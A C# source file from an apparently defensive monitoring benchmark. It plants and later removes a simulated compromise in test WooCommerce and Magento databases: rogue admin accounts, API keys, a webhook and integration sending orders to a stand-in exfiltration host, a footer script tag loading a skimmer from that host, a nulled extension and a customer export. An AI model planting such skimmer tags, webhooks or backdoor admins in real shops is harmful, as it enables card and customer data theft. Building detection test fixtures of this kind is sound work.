using CaseManagement.Shops;
using CaseManagement.Shops.Php;
using MySqlConnector;
using ScopingBenchmark;

namespace MonitoringBenchmark;

/// <summary>
/// What a pass over a real shop finds besides customers: the generated shops hold no staff account, credential or skimmer, so
/// before measuring the benchmark adds a small staff and an attacker's footprint (administrators and shop managers, API keys,
/// webhooks and integrations, a nulled extension, a footer skimmer, a customer export, failed logins), and takes it out again
/// afterwards. Every row is marked, and no counted table changes for long: the generator's completion check counts users and
/// orders, so a footprint left behind by an interrupted run is removed before that check runs.
/// </summary>
internal static class ShopFootprint
{
    public const int Admins = 3;
    public const int Managers = 2;

    private const string Login = "bench-staff-";
    private const string Host = "bench-exfil.example";
    private const string SavedPlugins = "bench_footprint_saved_plugins";
    private const string BulkId = "0b5e2c1a-9d3f-4e7b-8a6c-5d4e3f2a1b0c";

    public static string Describe(ShopPlatform platform) => platform == ShopPlatform.WooCommerce
        ? $"{Admins} administrators and {Managers} shop managers, an API key each, 2 webhooks (one to an outside host), a nulled plugin, a footer skimmer option, a customer export"
        : $"{Admins} administrators and {Managers} more admin users with failed logins, an integration with its OAuth consumer, a nulled module, a footer skimmer, a customer export";

    public static async Task PlantAsync(BenchShop shop, CancellationToken ct)
    {
        await RemoveAsync(shop, ct);
        if (shop.Platform == ShopPlatform.WooCommerce)
        {
            await PlantWooCommerceAsync(shop, ct);
        }
        else
        {
            await PlantMagentoAsync(shop, ct);
        }
    }

    /// <summary>Takes out whatever of the footprint is there; a database that does not exist yet has none.</summary>
    public static async Task RemoveAsync(BenchShop shop, CancellationToken ct)
    {
        try
        {
            await RunAsync(shop, ct, shop.Platform == ShopPlatform.WooCommerce
                ? $"""
                   DELETE k FROM `wp_woocommerce_api_keys` k JOIN `wp_users` u ON u.ID = k.user_id WHERE u.user_login LIKE '{Login}%';
                   DELETE FROM `wp_wc_webhooks` WHERE name LIKE 'Bench %';
                   DELETE m FROM `wp_usermeta` m JOIN `wp_users` u ON u.ID = m.user_id WHERE u.user_login LIKE '{Login}%';
                   DELETE FROM `wp_users` WHERE user_login LIKE '{Login}%';
                   DELETE FROM `wp_actionscheduler_actions` WHERE args LIKE '%bench-footprint%';
                   UPDATE `wp_options` o JOIN `wp_options` s ON s.option_name = '{SavedPlugins}'
                     SET o.option_value = s.option_value WHERE o.option_name = 'active_plugins';
                   DELETE FROM `wp_options` WHERE option_name IN ('{SavedPlugins}', 'bench_footer_scripts');
                   """
                : $"""
                   DELETE FROM `integration` WHERE name = 'Bench sync';
                   DELETE FROM `oauth_consumer` WHERE name = 'BenchIntegration';
                   DELETE r FROM `authorization_role` r JOIN `admin_user` u ON u.user_id = r.user_id AND r.user_type = '2' WHERE u.username LIKE '{Login}%';
                   DELETE FROM `admin_user` WHERE username LIKE '{Login}%';
                   DELETE FROM `setup_module` WHERE module = 'Bench_NulledSeo';
                   DELETE FROM `core_config_data` WHERE value LIKE '%{Host}%';
                   DELETE FROM `magento_bulk` WHERE uuid = '{BulkId}';
                   """);
        }
        catch (MySqlException ex) when (ex.ErrorCode is MySqlErrorCode.UnknownDatabase or MySqlErrorCode.NoSuchTable)
        {
        }
    }

    private static async Task PlantWooCommerceAsync(BenchShop shop, CancellationToken ct)
    {
        var staff = Enumerable.Range(1, Admins + Managers).Select(i => (Login: $"{Login}{i}", Role: i <= Admins ? "administrator" : "shop_manager")).ToList();
        var users = string.Join(",\n", staff.Select(s => $"('{s.Login}', 'x', '{s.Login}', '{s.Login}@shop.example', UTC_TIMESTAMP(), '{s.Login}')"));
        var roles = string.Join(",\n", staff.Select(s =>
            $"((SELECT ID FROM `wp_users` WHERE user_login = '{s.Login}'), 'wp_capabilities', '{PhpSerializer.Serialize(PhpArray.Map((s.Role, true)))}')"));
        await RunAsync(shop, ct, $"""
            INSERT INTO `wp_users` (user_login, user_pass, user_nicename, user_email, user_registered, display_name) VALUES {users};
            INSERT INTO `wp_usermeta` (user_id, meta_key, meta_value) VALUES {roles};
            INSERT INTO `wp_woocommerce_api_keys` (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
              SELECT ID, CONCAT('Bench key ', user_login), 'read_write', SHA2(user_login, 256), CONCAT('cs_', user_login), RIGHT(SHA2(user_login, 256), 7)
              FROM `wp_users` WHERE user_login LIKE '{Login}%';
            INSERT INTO `wp_wc_webhooks` (status, name, user_id, delivery_url, secret, topic, date_created, date_created_gmt, api_version) VALUES
              ('active', 'Bench ERP sync', 1, 'https://erp.shop.example/orders', 's1', 'order.updated', UTC_TIMESTAMP(), UTC_TIMESTAMP(), 3),
              ('active', 'Bench order sync', 1, 'https://{Host}/collect', 's2', 'order.created', UTC_TIMESTAMP(), UTC_TIMESTAMP(), 3);
            INSERT INTO `wp_options` (option_name, option_value, autoload) VALUES ('bench_footer_scripts', '<script src="https://{Host}/c.js" async></script>', 'yes');
            INSERT INTO `wp_options` (option_name, option_value, autoload) SELECT '{SavedPlugins}', option_value, 'no' FROM `wp_options` WHERE option_name = 'active_plugins';
            UPDATE `wp_options` SET option_value = '{PhpSerializer.Serialize(PhpArray.List("woocommerce/woocommerce.php", "seo-booster-pro/seo-booster-pro.php"))}'
              WHERE option_name = 'active_plugins';
            INSERT INTO `wp_actionscheduler_actions` (hook, status, scheduled_date_gmt, scheduled_date_local, args)
              VALUES ('wc-admin_report_export', 'complete', UTC_TIMESTAMP(), UTC_TIMESTAMP(), '{"{"}"report_type":"customers","by":"bench-footprint"{"}"}');
            """);
    }

    private static Task PlantMagentoAsync(BenchShop shop, CancellationToken ct)
    {
        var staff = string.Join(",\n", Enumerable.Range(1, Admins + Managers).Select(i =>
            $"('Staff', '{i}', '{Login}{i}@shop.example', '{Login}{i}', 'hash', UTC_TIMESTAMP(), 1, {(i > Admins ? 4 : 0)})"));
        return RunAsync(shop, ct, $"""
            INSERT INTO `admin_user` (firstname, lastname, email, username, password, created, is_active, failures_num) VALUES {staff};
            INSERT INTO `authorization_role` (parent_id, tree_level, role_type, user_id, user_type, role_name)
              SELECT 1, 2, 'U', user_id, '2', username FROM `admin_user` WHERE username LIKE '{Login}%';
            INSERT INTO `oauth_consumer` (created_at, name, `key`, secret, rejected_callback_url) VALUES (UTC_TIMESTAMP(), 'BenchIntegration', 'bench-k', 'bench-s', '');
            INSERT INTO `integration` (name, email, endpoint, status, consumer_id, created_at)
              SELECT 'Bench sync', 'ops@{Host}', 'https://{Host}/magento', 1, entity_id, UTC_TIMESTAMP() FROM `oauth_consumer` WHERE name = 'BenchIntegration';
            INSERT INTO `setup_module` (module, schema_version, data_version) VALUES ('Bench_NulledSeo', '1.0.0', '1.0.0');
            INSERT INTO `core_config_data` (scope, scope_id, path, value) VALUES ('default', 0, 'design/footer/absolute_footer', '<script src="https://{Host}/c.js"></script>');
            INSERT INTO `magento_bulk` (uuid, user_id, description, operation_count, start_time) VALUES ('{BulkId}', 1, 'Export customers', 1, UTC_TIMESTAMP());
            """);
    }

    private static async Task RunAsync(BenchShop shop, CancellationToken ct, string sql)
    {
        // The read-only user cannot write: the same server and database as the shop's owner.
        var writer = new MySqlConnectionStringBuilder(shop.ReadOnlyConnectionString) { UserID = "casemanagement", Password = "casemanagement" };
        await using var connection = new MySqlConnection(writer.ConnectionString);
        await connection.OpenAsync(ct);
        await using var transaction = await connection.BeginTransactionAsync(ct);
        await using var command = new MySqlCommand(sql, connection, transaction);
        await command.ExecuteNonQueryAsync(ct);
        await transaction.CommitAsync(ct);
    }
}
